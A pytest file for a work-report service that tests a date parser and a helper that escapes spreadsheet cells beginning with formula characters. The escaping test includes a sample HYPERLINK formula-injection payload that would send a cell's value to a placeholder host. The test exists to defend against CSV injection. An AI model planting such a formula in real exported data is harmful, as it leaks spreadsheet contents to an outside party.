"""The work report's own parts: the days it takes, and cells a spreadsheet will not run."""

from datetime import date

import pytest

from services.workreport import _cell, parse_day


def test_days_out_of_range_are_refused_with_what_to_give() -> None:
    assert parse_day(" 2026-12-07 ") == date(2026, 12, 7)
    for bad in ("9999-12-31", "0001-01-01"):
        with pytest.raises(ValueError, match="out of range; give a day from 2000-01-01"):
            parse_day(bad)
    with pytest.raises(ValueError, match="YYYY-MM-DD"):
        parse_day("yesterday")


def test_a_name_that_looks_like_a_formula_is_kept_as_text() -> None:
    assert _cell('=HYPERLINK("http://x/?"&A2,"pay")') == '\'=HYPERLINK("http://x/?"&A2,"pay")'
    for start in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert _cell(start) == "'" + start
    assert _cell("Mina") == "Mina"
    assert _cell("") == ""
